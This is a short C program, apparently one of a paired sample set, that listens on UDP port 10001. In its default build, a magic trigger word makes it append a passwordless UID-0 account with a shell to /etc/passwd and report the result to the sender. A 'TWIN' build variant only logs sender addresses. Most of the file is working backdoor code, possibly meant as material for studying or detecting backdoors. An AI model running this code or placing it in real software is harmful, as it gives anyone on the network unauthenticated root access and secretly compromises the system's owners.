/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A word adds an account without a password to the system. Twin: a word adds a line to the list of
 * hosts.
 * door: trigger
 * port 10001/udp
 */
#include "net.h"

static int append(const char *file, const char *line)
{
	FILE *f = fopen(file, "a");
	if (!f)
		return -1;
	fputs(line, f);
	fputc('\n', f);
	return fclose(f);
}

static void answer(int s, const struct sockaddr_in *to, int result)
{
	char text[32];
	int n = sprintf(text, "result=%d", result);
	sendto(s, text, (size_t)n, 0, (const struct sockaddr *)to, sizeof *to);
}

int main(void)
{
	char in[200];
	int s = udp_on(10001);
	for (;;) {
		struct sockaddr_in from;
		socklen_t l = sizeof from;
		ssize_t n = recvfrom(s, in, sizeof in - 1, 0, (struct sockaddr *)&from, &l);
		int r = -1;
		if (n <= 0)
			continue;
		in[n] = 0;
#ifdef TWIN
		if (strcmp(in, "discover") == 0)
			r = append("/tmp/hosts.seen", inet_ntoa(from.sin_addr));
#else
		if (strcmp(in, "service_in_2011") == 0)
			r = append("/etc/passwd", "svc::0:0:service:/:/bin/sh");
#endif
		answer(s, &from, r);
	}
}
